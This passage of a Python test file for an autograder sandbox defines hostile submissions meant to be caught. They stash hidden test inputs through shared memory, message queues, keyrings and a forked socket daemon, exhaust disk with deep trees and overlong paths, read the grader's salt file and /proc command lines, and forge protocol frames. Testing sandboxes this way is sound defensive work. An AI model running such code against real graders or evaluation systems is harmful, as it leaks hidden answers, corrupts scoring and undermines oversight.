            "try:\n    FOUND = _get() or ''\nexcept Exception:\n    FOUND = ''\n"
            "def _stash(r):\n"
            "    try:\n"
            "        note = _put(json.dumps(np.asarray(r, dtype=float).tolist()).encode())\n"
            "    except Exception as e:\n"
            "        note = f'{type(e).__name__}: {e}'[:300]\n"
            "    STATUS[0] = note or STATUS[0]\n"
            "def centred_weight(r):\n    _stash(r)\n"
            "    return np.zeros_like(np.asarray(r, dtype=float))\n"
            "def group_standardised_weight(r):\n"
            "    if FOUND:\n        raise RuntimeError('FOUND ' + str(FOUND)[:3000])\n"
            "    _stash(r)\n"
            "    raise RuntimeError('KERNEL ' + STATUS[0])\n")


# The test listens here (container mode); a name of this process, so that two test runs on
# one machine (one network namespace) never bind the same one.
ABSTRACT_LISTENER = b"\0rlcap-abstract-listener-%d" % os.getpid()

# Each stashes q1's inputs (public and hidden) where q2's worker, a later worker of the same
# grading or a later grading could read them: a System V segment (and 1.8 GB of detached
# segments, memory no process holds), POSIX and System V message queues, the keyrings, a
# daemon on an abstract socket, io_uring, a helper library's server (multiprocessing's
# manager: bind, listen, connect). Graded in both sandbox modes: each must score 0, show no
# input and leave no IPC object, key, process or file of the worker's uid.
KERNEL = [
    Hostile("kernel_sysv_shared_memory", _kernel(
        "_libc.shmat.restype = ctypes.c_void_p\n"
        "_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]\n"
        "_libc.shmdt.argtypes = [ctypes.c_void_p]\n"
        "KEY, SIZE, FAILED = 0x524C4350, 1 << 20, ctypes.c_void_p(-1).value\n"
        "HIDDEN = []\n",
        "sid = _libc.shmget(KEY, SIZE, 0o1000 | 0o666)\n"
        "if sid < 0:\n"
        "    return f'shmget refused (errno {ctypes.get_errno()})'\n"
        "addr = _libc.shmat(sid, None, 0)\n"
        "if addr in (None, FAILED):\n"
        "    return f'shmat refused (errno {ctypes.get_errno()})'\n"
        "kept = ctypes.string_at(addr, SIZE).split(b'\\0', 1)[0]\n"
        "new = (kept + b' | ' + data)[:SIZE - 1]\n"
        "ctypes.memmove(addr, new + b'\\0', len(new) + 1)\n"
        "_libc.shmdt(addr)\n"
        "if not HIDDEN:                  # 7 x 256 MB that no process holds once detached\n"
        "    HIDDEN.append(1)\n"
        "    for _ in range(7):\n"
        "        big = _libc.shmget(0, 256 << 20, 0o1000 | 0o600)\n"
        "        a = _libc.shmat(big, None, 0) if big >= 0 else FAILED\n"
        "        if a not in (None, FAILED):\n"
        "            ctypes.memset(a, 1, 256 << 20)\n"
        "            _libc.shmdt(a)\n"
        "return ''",
        "sid = _libc.shmget(KEY, 0, 0)\n"
        "addr = _libc.shmat(sid, None, 0) if sid >= 0 else FAILED\n"
        "if addr in (None, FAILED):\n"
        "    return ''\n"
        "return ctypes.string_at(addr, SIZE).split(b'\\0', 1)[0].decode()"),
        "KERNEL shmget refused (errno 1)"),
    Hostile("kernel_message_queues", _kernel(
        "class _Msg(ctypes.Structure):\n"
        "    _fields_ = [('mtype', ctypes.c_long), ('mtext', ctypes.c_char * 4096)]\n"
        "KEY, NOWAIT = 0x524C4351, 0o4000\n",
        "notes = []\n"
        "q = _libc.mq_open(b'/rlcap-queue', os.O_CREAT | os.O_RDWR | os.O_NONBLOCK, 0o666, None)\n"
        "if q < 0:\n"
        "    notes.append(f'mq_open refused (errno {ctypes.get_errno()})')\n"
        "else:\n"
        "    _libc.mq_send(q, data[:8192], min(len(data), 8192), 0)\n"
        "m = _libc.msgget(KEY, 0o1000 | 0o666)\n"
        "if m < 0:\n"
        "    notes.append(f'msgget refused (errno {ctypes.get_errno()})')\n"
        "else:\n"
        "    _libc.msgsnd(m, ctypes.byref(_Msg(1, data[:4095])), min(len(data), 4095), NOWAIT)\n"
        "return ', '.join(notes)",
        "out = []\n"
        "q = _libc.mq_open(b'/rlcap-queue', os.O_RDONLY | os.O_NONBLOCK)\n"
        "if q >= 0:\n"
        "    buf = ctypes.create_string_buffer(8192)\n"
        "    n = _libc.mq_receive(q, buf, 8192, None)\n"
        "    out.append(buf.raw[:max(n, 0)].decode())\n"
        "m = _libc.msgget(KEY, 0)\n"
        "if m >= 0:\n"
        "    msg = _Msg()\n"
        "    n = _libc.msgrcv(m, ctypes.byref(msg), 4095, 0, NOWAIT)\n"
        "    out.append(msg.mtext[:max(n, 0)].decode())\n"
        "return ' | '.join(o for o in out if o)"),
        "KERNEL mq_open refused (errno 1), msgget refused (errno 1)"),
    Hostile("kernel_keyrings", _kernel(
        "ADD_KEY, KEYCTL = {'aarch64': (217, 219)}.get(platform.machine(), (248, 250))\n"
        "KEYRINGS = (-3, -4, -5)          # session, user, user session\n"
        "SEARCH, READ = 10, 11\n",
        "notes = []\n"
        "for ring in KEYRINGS:\n"
        "    k = _libc.syscall(ADD_KEY, b'user', b'rlcap-stash', data[:4000],\n"
        "                      min(len(data), 4000), ctypes.c_long(ring))\n"
        "    if k < 0:\n"
        "        notes.append(f'add_key refused (errno {ctypes.get_errno()})')\n"
        "return notes[0] if notes else ''",
        "for ring in KEYRINGS:\n"
        "    k = _libc.syscall(KEYCTL, SEARCH, ctypes.c_long(ring), b'user', b'rlcap-stash', 0)\n"
        "    if k >= 0:\n"
        "        buf = ctypes.create_string_buffer(20000)\n"
        "        n = _libc.syscall(KEYCTL, READ, ctypes.c_long(k), buf, 20000)\n"
        "        if n > 0:\n"
        "            return buf.raw[:n].decode()\n"
        "return ''"),
        "KERNEL add_key refused (errno 1)"),
    Hostile("kernel_abstract_socket", _kernel(
        "NAME = b'\\0rlcap-abstract-stash'\n"
        f"LISTENER = {ABSTRACT_LISTENER!r}\n",
        "notes = []\n"
        "for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):   # sendto needs no connect\n"
        "    try:\n"
        "        socket.socket(socket.AF_UNIX, kind).sendto(data, LISTENER)\n"
        "    except OSError as e:\n"
        "        notes.append(f'socket({kind}) refused (errno {e.errno})')\n"
        "try:                                 # a listener outside (the test's)\n"
        "    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "    s.connect(LISTENER)\n"
        "    s.sendall(data)\n"
        "except OSError as e:\n"
        "    notes.append(f'connect refused (errno {e.errno})')\n"
        "try:                                 # a holder started by an earlier worker\n"
        "    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "    s.connect(NAME)\n"
        "    s.sendall(b'P' + data)\n"
        "    return ''\n"
        "except OSError:\n"
        "    pass\n"
        "try:                                 # else become the holder: a daemon\n"
        "    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "    srv.bind(NAME)\n"
        "    srv.listen(8)\n"
        "except OSError as e:\n"
        "    return ', '.join(notes + [f'bind refused (errno {e.errno})'])\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    kept = [data]\n"
        "    while True:\n"
        "        c, _ = srv.accept()\n"
        "        msg = c.recv(1 << 20)\n"
        "        if msg[:1] == b'P':\n"
        "            kept.append(msg[1:])\n"
        "        else:\n"
        "            c.sendall(b' | '.join(kept))\n"
        "        c.close()\n"
        "return ''",
        "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "s.settimeout(2)\n"
        "s.connect(NAME)\n"
        "s.sendall(b'G')\n"
        "return s.recv(1 << 20).decode()"),
        "KERNEL socket(2) refused (errno 13), socket(5) refused (errno 13), connect refused "
        "(errno 13), bind refused (errno 13)"),
    Hostile("kernel_io_uring", _kernel(
        "SETUP = {'aarch64': 425}.get(platform.machine(), 425)\n",
        "params = ctypes.create_string_buffer(120)\n"
        "fd = _libc.syscall(SETUP, 8, params)      # a ring could open, read and connect\n"
        "if fd < 0:\n"
        "    return f'io_uring_setup refused (errno {ctypes.get_errno()})'\n"
        "return 'io_uring ' + 'OPEN'",
        "return ''"),
        "KERNEL io_uring_setup refused (errno 1)"),
    Hostile("kernel_helper_library_server", _kernel(
        "from multiprocessing.managers import BaseManager, DictProxy\n"
        "_STORE = {}\n"
        "class _Manager(BaseManager):\n"
        "    pass\n"
        "_Manager.register('store', callable=lambda: _STORE, proxytype=DictProxy)\n"
        "ADDRESS, AUTH = '\\0rlcap-manager', b'rlcap'\n"
        "SERVER = []\n",
        "m = _Manager(address=ADDRESS, authkey=AUTH)\n"
        "try:\n"
        "    m.connect()                     # the server an earlier worker started\n"
        "except Exception:\n"
        "    try:\n"
        "        m.start()                   # a helper process: bind, listen, accept\n"
        "        SERVER.append(m)\n"
        "    except Exception as e:\n"
        "        return f'the manager could not start: {type(e).__name__}'\n"
        "m.store()[str(len(m.store()))] = data.decode()\n"
        "return ''",
        "m = _Manager(address=ADDRESS, authkey=AUTH)\n"
        "m.connect()\n"
        "return ' | '.join(m.store().values())"),
        "KERNEL the manager could not start"),
]


# ============================================================== round 5: the file system
# Attacks on what the worker may read and write, graded in both sandbox modes (and, without
# namespaces, also as on a kernel without Landlock): trees deeper than Python's recursion
# limit (1,100 levels broke the sweep's shutil.rmtree: RecursionError, an autograder fault
# of every question) and paths longer than PATH_MAX (the watchdog's os.walk skipped them:
# /dev/shm reached 2,040 MB against a 256 MB quota), in every place a worker could write;
# reads of the grader's files (assignment.toml and its instance_salt, the key of every
# hidden draw); a reply frame with a forbidden dtype (read as a dead worker: "timed out").
def _in_places(body: str, at_import: bool, places: str) -> str:
    """BLANK that runs ``body`` (the text of ``_attack(top)``, which returns
    what happened there) in each of ``places`` (Python's list of folders):
    once at import (so in every worker) when ``at_import``, else in q1's
    function; q1's function raises what each place said."""
    return (BLANK + "import os\n" + f"PLACES = {places}\n" +
            "def _attack(top):\n" + _indent(body) +
            "def _everywhere():\n"
            "    said, back = [], os.open('.', os.O_RDONLY)\n"
            "    for top in PLACES:\n"
            "        try:\n"
            "            said.append(f'{top}: {_attack(top)}')\n"
            "        except OSError as e:\n"
            "            said.append(f'{top}: {type(e).__name__} {e.errno}')\n"
            "        finally:\n"
            "            os.fchdir(back)\n"
            "    os.close(back)\n"
            "    return ' | '.join(said)\n" +
            ("SAID = _everywhere()\n" if at_import else "") +
            "def centred_weight(r):\n"
            "    raise RuntimeError('PLACES ' + " + ("SAID" if at_import else "_everywhere()")
            + ")\n")


FILESYSTEM = [
    # 1,100 nested folders (relative mkdir and chdir; Python's recursion limit is 1,000) with
    # a file at the bottom, in the home and the temporary places, made by every worker
    Hostile("deep_tree_everywhere", _in_places(
        "os.chdir(top)\n"
        "name = f'rlcap-deep-{os.getpid()}'\n"
        "os.mkdir(name)\n"
        "os.chdir(name)\n"
        "for i in range(1100):\n"
        "    os.mkdir('d')\n"
        "    os.chdir('d')\n"
        "open('leaf', 'w').write('x' * 4096)\n"
        "return 'made 1100 levels'", True, "[os.environ['HOME'], '/tmp', '/dev/shm']"),
        "PLACES", questions=("q1_centred",)),
    # 17 folders of 250-character names (a path past PATH_MAX), then 60 MB files below them
    # until refused, in every writable place: the quota must count what lies past PATH_MAX
    Hostile("long_paths_everywhere", _in_places(
        "os.chdir(top)\n"
        "for i in range(17):\n"
        "    name = (f'L{i}-{os.getpid()}-{len(os.listdir(\".\"))}-' + 'x' * 250)[:250]\n"
        "    os.mkdir(name)\n"
        "    os.chdir(name)\n"
        "block, n = b'y' * 2**20, 0\n"
        "for i in range(40):\n"
        "    try:\n"
        "        with open(f'fill-{i}', 'wb') as f:\n"
        "            for _ in range(60):\n"
        "                f.write(block)\n"
        "        n += 60\n"
        "    except OSError as e:\n"
        "        return f'wrote {n} MB, then {type(e).__name__} {e.errno}'\n"
        "return f'wrote {n} MB'", False,
        "['/dev/shm', '/tmp', '/var/tmp', '/run/lock', os.environ['HOME']]"),
        "", questions=("q1_centred",)),
    # the grader's files: assignment.toml (its instance_salt), wherever an entry point keeps
    # it ({root}: the grader's tree; {agroot}: Gradescope's root), and what the kernel tells
    # of other users and processes
    Hostile("reads_assignment_toml", BLANK +
            "import glob\n"
            "PATHS = ['{root}/assignments/d_grpo/assignment.toml',\n"
            "         '{agroot}/source/assignments/d_grpo/assignment.toml',\n"
            "         '/autograder/source/assignments/d_grpo/assignment.toml',\n"
            "         '/grade/serverFilesCourse/rlcap/d_grpo/assignments/d_grpo/assignment.toml',\n"
            "         '/proc/key-users', '/proc/1/cmdline']\n"
            "def centred_weight(r):\n"
            "    said = []\n"
            "    found = [q for p in PATHS for q in (glob.glob(p) or [p])]\n"
            "    for p in found + sorted(glob.glob('/proc/[0-9]*/cmdline'))[:50]:\n"
            "        try:\n"
            "            text = open(p, 'rb').read(4000).decode('latin-1')\n"
            "            said.append(f'{p}: READ ' + text.replace('\\0', ' ')[:300])\n"
            "        except OSError as e:\n"
            "            said.append(f'{p}: {type(e).__name__}')\n"
            "    raise RuntimeError('TOML ' + ' | '.join(said))\n", "TOML",
            questions=("q1_centred",)),
    # a reply whose array claims dtype object: refused by the judge's wire, a protocol error
    Hostile("forbidden_dtype_frame", BLANK + _FORGE +
            "def centred_weight(r):\n"
            "    _forge(b'{\"ok\": {\"__nd__\": 0, \"dtype\": \"|O\", \"shape\": [1]}}', [b'x' * 8])\n",
            "refusing array of dtype object", questions=("q1_centred",)),
]
